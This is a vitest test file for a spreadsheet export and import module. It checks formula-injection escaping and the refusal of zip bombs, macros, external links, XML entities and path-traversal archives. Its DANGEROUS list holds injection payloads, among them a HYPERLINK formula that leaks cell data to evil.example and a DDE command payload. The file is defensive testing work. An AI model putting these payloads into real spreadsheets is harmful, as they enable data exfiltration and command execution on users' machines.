import { randomBytes } from 'node:crypto';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import { expect, test } from 'vitest';
import type { Refusal } from '#domain/base/refusal.ts';
import { sheetCopy } from '#domain/sheets/copy.ts';
import { SHEET_ROWS_MAX } from '#domain/sheets/operations.ts';
import { moneyColumn, type Table, textColumn, timeColumn } from '#server/sheets/table.ts';
import { FORMULAS } from '#test/formulas.ts';
import { readWorkbook, renderWorkbook } from './workbook.ts';
import { inspectWorkbook } from './workbook-inspection.ts';

interface File {
  name: string;
  content: Buffer;
  /** Size declared in the directory. */
  claims?: number;
}

/** A ZIP archive with arbitrary flaws. */
function zip(files: readonly File[]): Buffer {
  const bodies: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, content, claims = content.length } of files) {
    const packed = deflateRawSync(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(8, 8);
    local.writeUInt16LE(name.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(packed.length, 20);
    entry.writeUInt32LE(claims, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(at, 42);
    const body = Buffer.concat([local, Buffer.from(name), packed]);
    bodies.push(body);
    directory.push(entry, Buffer.from(name));
    at += body.length;
  }
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...bodies, ...directory, end]);
}

/** Parts of a workbook we wrote. */
function partsOf(bytes: Buffer): Map<string, string> {
  const parts = new Map<string, string>();
  let at = bytes.readUInt32LE(bytes.lastIndexOf('PK\u0005\u0006') + 16);
  while (bytes.readUInt32LE(at) === 0x02014b50) {
    const length = bytes.readUInt16LE(at + 28);
    const local = bytes.readUInt32LE(at + 42);
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const packed = bytes.subarray(start, start + bytes.readUInt32LE(at + 20));
    const content = bytes.readUInt16LE(at + 10) === 8 ? inflateRawSync(packed) : packed;
    parts.set(bytes.toString('utf8', at + 46, at + 46 + length), content.toString('utf8'));
    at += 46 + length + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return parts;
}

const book = (cells: string[]): Table => ({
  name: 'Sheet',
  columns: [textColumn('Text')],
  rows: cells.map((cell) => [cell]),
});
const saying = (bytes: Buffer): string => {
  try {
    inspectWorkbook(bytes);
    return 'accepted';
  } catch (error) {
    return (error as Refusal).message;
  }
};

const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1",
  '<f>1</f>',
  ']]>&amp;',
];

test('writes formula-like text as text and reads it back unchanged', async () => {
  const bytes = await renderWorkbook([book(DANGEROUS)]);
  const sheet = partsOf(bytes).get('xl/worksheets/sheet1.xml')!;
  expect(sheet).not.toMatch(/<f[ >]/);
  const cells = [...sheet.matchAll(/<c [^>]*>/g)].map(([cell]) => cell);
  expect(cells.length).toBe(DANGEROUS.length + 1);
  expect(cells.filter((cell) => !cell.includes('t="s"'))).toEqual([]);
  expect(partsOf(bytes).get('xl/styles.xml')).toContain('formatCode="@"');
  const read = (await readWorkbook(bytes, SHEET_ROWS_MAX)).cells.slice(1).map(([cell]) => cell);
  // Surrounding spaces are trimmed on reading.
  expect(read).toEqual(DANGEROUS.map((one) => one.trim()));
});

test('exports none of sixty formulas as a formula', async () => {
  const bytes = await renderWorkbook([book([...FORMULAS])]);
  const sheet = partsOf(bytes).get('xl/worksheets/sheet1.xml')!;
  expect(sheet).not.toMatch(/<f[ >/]/);
  const cells = [...sheet.matchAll(/<c [^>]*>/g)].map(([cell]) => cell);
  expect([cells.length, cells.filter((cell) => !cell.includes('t="s"'))]).toEqual([FORMULAS.length + 1, []]);
});

const rowsOfCells = (tag: string, close = '/>'): Buffer =>
  Buffer.from(`<worksheet><sheetData><row>${`${tag}${close}`.repeat(50_001)}</row></sheetData></worksheet>`);

test.each([
  ['<c', '/>'],
  ['<c r="A1"', '/>'],
  ['<c\n r="A1"', '/>'],
  ['<c\t', '/>'],
  ['<c', '></c>'],
  ['<x:c ', '/>'],
  ['<x:c', '></x:c>'],
  ['<größe:c\r\n', '/>'],
])('counts too many cells however they are written: %j', (tag, close) => {
  const cells = rowsOfCells(tag, close);
  // Includes incompressible data, so that only the cell count is excessive.
  const files = [
    { name: 'xl/workbook.xml', content: Buffer.from('<a/>') },
    { name: 'xl/elsewhere/sheet.xml', content: cells },
    { name: 'xl/media/image1.png', content: randomBytes(64 * 1024) },
  ];
  expect(saying(zip(files))).toBe(sheetCopy.tooMuchInside);
  const fewer = Buffer.from(cells.toString().replace(`${tag}${close}`.repeat(10), ''));
  expect(saying(zip(files.map((file) => (file.content === cells ? { ...file, content: fewer } : file))))).toBe(
    'accepted',
  );
});

test('refuses a sheet in UTF-16', () => {
  const files = [
    { name: 'xl/workbook.xml', content: Buffer.from('<a/>') },
    { name: 'xl/worksheets/sheet1.xml', content: Buffer.from('\ufeff<worksheet><c r="A1"/></worksheet>', 'utf16le') },
  ];
  expect(saying(zip(files))).toBe(sheetCopy.notWorkbook);
});

test('writes numbers and times as formatted numbers, not text', async () => {
  const table: Table = {
    name: 'Typed',
    columns: [moneyColumn('Price'), timeColumn('When')],
    rows: [[12.5, '2026-11-20T12:00:00.000Z']],
  };
  const bytes = await renderWorkbook([table]);
  expect((await readWorkbook(bytes, SHEET_ROWS_MAX)).cells).toEqual([
    ['Price', 'When'],
    [12.5, new Date('2026-11-20T12:00:00.000Z')],
  ]);
  expect(partsOf(bytes).get('xl/worksheets/sheet1.xml')).toMatch(/<c r="A2" s="\d+"><v>12\.5<\/v>/);
});

test('writes a large table completely, in a child process', async () => {
  const cells = Array.from({ length: 1_000 }, (_, at) => `Cell ${at}`);
  const { cells: read } = await readWorkbook(await renderWorkbook([book(cells)]), cells.length);
  expect(read).toEqual([['Text'], ...cells.map((cell) => [cell])]);
});

test('omits invalid characters and truncates long texts', async () => {
  const { cells } = await readWorkbook(
    await renderWorkbook([book(['a\u0000b\u0008c\u001bd\ud800', 'x'.repeat(40_000)])]),
    SHEET_ROWS_MAX,
  );
  const [, first, second] = cells;
  expect(first).toEqual(['abcd']);
  expect(String(second![0]).length).toBe(32_767);
});

test.each<[string, File[], string]>([
  [
    'that expands to far more than it is',
    [{ name: 'xl/workbook.xml', content: Buffer.alloc(19 * 1024 * 1024) }],
    sheetCopy.tooMuchInside,
  ],
  [
    'that promises less than it expands to',
    [{ name: 'xl/workbook.xml', content: Buffer.alloc(3_000_000), claims: 1000 }],
    sheetCopy.notWorkbook,
  ],
  [
    'with macros',
    [
      { name: 'xl/workbook.xml', content: Buffer.from('<a/>') },
      { name: 'xl/vbaProject.bin', content: Buffer.from('x') },
    ],
    sheetCopy.notAllowedInside,
  ],
  [
    'with links to other files',
    [
      { name: 'xl/workbook.xml', content: Buffer.from('<a/>') },
      { name: 'xl/externalLinks/externalLink1.xml', content: Buffer.from('<a/>') },
    ],
    sheetCopy.notAllowedInside,
  ],
  [
    'with entities',
    [{ name: 'xl/workbook.xml', content: Buffer.from('<!DOCTYPE a [<!ENTITY b "c">]><a/>') }],
    sheetCopy.notAllowedInside,
  ],
  [
    'with hundreds of parts',
    Array.from({ length: 200 }, (_, at) => ({ name: `p${at}`, content: Buffer.from('x') })),
    sheetCopy.tooMuchInside,
  ],
  ['that is no workbook', [{ name: 'word/document.xml', content: Buffer.from('<a/>') }], sheetCopy.notWorkbook],
  [
    'with a part outside its folder',
    [{ name: '../xl/workbook.xml', content: Buffer.from('<a/>') }],
    sheetCopy.notAllowedInside,
  ],
])('refuses an archive %s before reading it', (_, files, message) => {
  const archive = zip(files);
  // Resident memory includes other tests of the process; buffers are counted per thread.
  const before = process.memoryUsage().arrayBuffers;
  expect(saying(archive)).toBe(message);
  expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(1024 * 1024);
});

test.each([
  ['nothing', Buffer.alloc(0)],
  ['text', Buffer.from('sku;price\nA;1')],
  ['an end without a beginning', Buffer.concat([Buffer.from('PK\u0005\u0006'), Buffer.alloc(18, 0xff)])],
])('refuses %s, which is not a workbook', async (_, bytes) => {
  expect(saying(bytes)).toMatch(/^(This is not a workbook|The workbook holds too much)/);
});

test('refuses a truncated or corrupt workbook without failing', async () => {
  const bytes = await renderWorkbook([book(['a'])]);
  for (const length of [10, 200, bytes.length - 30])
    await expect(readWorkbook(bytes.subarray(0, length), SHEET_ROWS_MAX)).rejects.toThrow(sheetCopy.notWorkbook);
});

test('survives a cell at the far corner of a sheet', async () => {
  const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>`;
  const good = partsOf(await renderWorkbook([book(['a'])]));
  const parts = [...good].map(([name, content]) => ({
    name,
    content: Buffer.from(name.endsWith('/sheet1.xml') ? sheet : content),
  }));
  await expect(readWorkbook(zip(parts), SHEET_ROWS_MAX)).rejects.toThrow(sheetCopy.farCell('XFD1048576'));
});
